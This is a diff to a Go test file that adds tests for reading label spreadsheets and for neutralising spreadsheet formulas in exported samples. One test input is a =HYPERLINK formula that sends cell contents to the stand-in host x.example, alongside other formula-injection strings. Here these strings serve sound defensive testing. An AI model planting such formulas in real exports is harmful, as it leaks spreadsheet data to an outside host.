@@ -1,6 +1,7 @@
 package retriever
 
 import (
+	"encoding/csv"
 	"fmt"
 	"strings"
 	"testing"
@@ -72,6 +73,37 @@ func TestLabelsMakeTheEstimate(t *testing.T) {
 	rowsOf(t, labels, "mention", "ann", 7)
 	_, err = labels.Verified()
 	require.ErrorContains(t, err, "line 2: row 7 was not counted for ann by kind mention")
+}
+
+// A sample as a spreadsheet gives it back.
+func TestLabelsOfASpreadsheet(t *testing.T) {
+	for _, text := range []string{
+		"\ufeffkind,id,name,row,shows\r\nmention,ann,Ann Lee,3,YES\r\nmention,ann,Ann Lee,4,No \r\n",
+		"\ufeffkind;id;name;row;shows\r\nmention;ann;Ann Lee;3;yes\r\nmention;ann;\"Lee; Ann\";4;no\r\n",
+	} {
+		labels, err := ReadLabels(strings.NewReader(text))
+		require.NoError(t, err)
+		rowsOf(t, labels, "mention", "ann", 5)
+		got, err := labels.Verified()
+		require.NoError(t, err)
+		require.Equal(t, []int64{2, 1}, []int64{got[0].Sample, got[0].Confirmed})
+	}
+}
+
+// A caption that a spreadsheet would carry out is text in a sample.
+func TestSamplesHaveNoFormulas(t *testing.T) {
+	s := NewSampler(9, 0)
+	for row, caption := range []string{`=HYPERLINK("http://x.example/?"&A1)`, "+1", "-1", "@SUM(A1)", "\t=1", "Ann = Lee"} {
+		require.NoError(t, s.Write(Evidence{Kind: "mention", ID: "ann", Name: "Ann Lee", Row: int64(row), Caption: caption}))
+	}
+	var b strings.Builder
+	require.NoError(t, s.WriteSample(&b))
+	lines, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, lines, 7)
+	for _, cells := range lines[1:] {
+		require.Contains(t, "'A", cells[6][:1], cells)
+	}
 }
 
 func TestReadLabelsRefuses(t *testing.T) {
